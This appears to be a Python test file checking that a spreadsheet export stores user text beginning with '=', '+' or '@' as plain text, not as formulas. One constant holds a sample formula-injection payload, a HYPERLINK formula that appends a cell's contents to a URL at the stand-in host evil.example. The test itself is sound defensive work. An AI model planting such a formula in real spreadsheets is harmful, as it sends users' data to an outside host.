"""Users' text never becomes a formula in a spreadsheet export."""

from __future__ import annotations

import io

from openpyxl import Workbook, load_workbook

from verbund.common.spreadsheet import neutralise_formulas, workbook_bytes

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'


def test_formula_text_is_stored_as_text_exactly_as_typed() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append([EVIL, "+1+2", "@SUM(A1)", "Mainz", 3])
    assert sheet["A1"].data_type == "f"  # what openpyxl does on its own

    reread = load_workbook(io.BytesIO(workbook_bytes(workbook))).active
    assert reread is not None
    assert [cell.data_type for cell in reread[1]] == ["s", "s", "s", "s", "n"]
    assert reread["A1"].value == EVIL


def test_neutralise_counts_the_cells_it_changed() -> None:
    workbook = Workbook()
    second = workbook.create_sheet("Zweites Blatt")
    second.append(["=1+1", "=A1"])
    assert neutralise_formulas(workbook) == 2
    assert neutralise_formulas(workbook) == 0
